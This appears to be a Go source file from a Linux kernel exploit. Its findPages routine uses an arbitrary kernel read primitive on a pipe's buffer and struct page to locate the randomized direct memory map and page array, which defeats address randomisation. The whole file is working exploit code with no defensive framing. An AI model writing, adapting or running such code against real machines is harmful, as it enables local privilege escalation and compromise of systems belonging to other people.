package acceptqueue

import (
	"bytes"
	"crypto/rand"
	"errors"
	"fmt"

	"golang.org/x/sys/unix"
)

// errNoPages: the memory of pages was not found.
var errNoPages = errors.New("the place of pages in the kernel's memory was not found")

// pages leads from a struct page to where its page is mapped. All physical memory
// is mapped in one piece, and the struct pages stand in an array
// (Documentation/arch/x86/x86_64/mm.rst). Both begin at an address that is random,
// but for its last 30 bits.
type pages struct{ mapped, array uint64 }

const (
	pageBytes = 4096
	gigabyte  = 1 << 30
	// mostMemory bounds the search, in gigabytes of physical addresses.
	mostMemory = 1 << 12
)

// address is where a struct page's page is.
func (p pages) address(page uint64, size int) uint64 {
	return p.mapped + (page-p.array)/uint64(size)*pageBytes
}

// findPages looks for a page with random content, of a pipe: its struct page is in
// the pipe's structure.
func (r *Reader) findPages() error {
	want := make([]byte, pageBytes)
	if _, err := rand.Read(want); err != nil {
		return err
	}
	var p [2]int
	if err := unix.Pipe2(p[:], unix.O_CLOEXEC); err != nil {
		return fmt.Errorf("pipe: %w", err)
	}
	defer unix.Close(p[0])
	defer unix.Close(p[1])
	if _, err := unix.Write(p[1], want); err != nil {
		return fmt.Errorf("write to a pipe: %w", err)
	}
	pipe, err := r.private(p[0])
	if err != nil {
		return err
	}
	buffers, err := r.pointer(pipe + uint64(r.at.pipeBuffers))
	if err != nil {
		return err
	}
	page, err := r.pointer(buffers + uint64(r.at.bufferPage))
	if err != nil {
		return err
	}
	array := page &^ (gigabyte - 1)
	mapped := buffers &^ (gigabyte - 1) // what kmalloc gives is somewhere in there
	perGigabyte := uint64(gigabyte / pageBytes * r.at.pageSize)
	got := make([]byte, 64)
	for i := range uint64(mostMemory) {
		// As many gigabytes of the array may lie below the page as there is memory below
		// it.
		for j := range 1 + mostMemory*perGigabyte/gigabyte {
			if i*gigabyte > mapped || j > 1+(i+1)*perGigabyte/gigabyte {
				break
			}
			at := pages{mapped: mapped - i*gigabyte, array: array - j*gigabyte}
			a := at.address(page, r.at.pageSize)
			if a < 1<<63 || r.readInto(got, a) != nil || !bytes.Equal(got, want[:len(got)]) {
				continue
			}
			if all, err := r.read(a, pageBytes); err == nil && bytes.Equal(all, want) {
				r.pages = at
				return nil
			}
		}
	}
	return errNoPages
}
